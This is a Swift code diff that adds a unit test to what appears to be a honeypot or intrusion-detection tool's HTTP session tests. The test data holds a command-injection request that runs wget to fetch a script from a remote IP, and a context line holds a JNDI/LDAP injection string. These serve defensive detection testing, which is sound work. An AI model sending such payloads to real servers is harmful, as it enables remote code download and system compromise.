@@ -86,6 +86,31 @@ final class WebSessionTests: XCTestCase {
         XCTAssertEqual(out.events.filter { $0.kind == .httpRequest }.count, 3)
     }
 
+    func testAttackURLsAreSeenLabelledAndQueuedForDownloadOnlyWithAFetcher() throws {
+        let raw = "GET /cgi-bin/;cd%20/tmp;wget%20http://198.51.100.7/x.sh HTTP/1.1\r\nHost: a\r\nUser-Agent: Hello\r\n\r\n"
+        let (_, plain) = try answer(raw)
+        let seen = try XCTUnwrap(plain.events.first { $0.kind == .urlSeen })
+        XCTAssertEqual(seen.url, "http://198.51.100.7/x.sh")
+        XCTAssertEqual(seen.message, "in path")
+        XCTAssertEqual(seen.srcIP, "192.0.2.9")
+        XCTAssertTrue(seen.attack?.categories.contains("cmd_injection") ?? false)
+        XCTAssertTrue(plain.downloads.isEmpty, "no fetcher: recorded only")
+        let req = try XCTUnwrap(plain.events.first { $0.kind == .httpRequest })
+        XCTAssertEqual(req.http?.client, "attacker")
+        XCTAssertEqual(req.http?.clientSession?.count, 16)
+
+        var ctx = try context()
+        ctx.fetcher = URLFetcher(fetch: { _, _ in .failed("x") }, artifacts: nil)
+        let (_, fetching) = try answer(raw, ctx)
+        XCTAssertEqual(fetching.downloads.map(\.url), ["http://198.51.100.7/x.sh"])
+        XCTAssertEqual(fetching.downloads.first?.base.session, fetching.events.first?.session)
+
+        // A benign request with a URL in it (a Referer, a link parameter) is not an attack: nothing seen.
+        let (_, benign) = try answer("GET /?next=http://example.com/ HTTP/1.1\r\nHost: a\r\nReferer: http://example.com/\r\n\r\n")
+        XCTAssertNil(benign.events.first { $0.kind == .urlSeen })
+        XCTAssertEqual(benign.events.first { $0.kind == .httpRequest }?.http?.client, "benign")
+    }
+
     func testRequestEventCarriesHTTPAttackAndRawPayload() throws {
         let raw = "GET /?x=$%7Bjndi:ldap://198.51.100.7/a%7D HTTP/1.1\r\nHost: victim\r\nUser-Agent: curl/8\r\nX-A: 1\r\nX-A: 2\r\n\r\n"
         let (_, out) = try answer(raw)
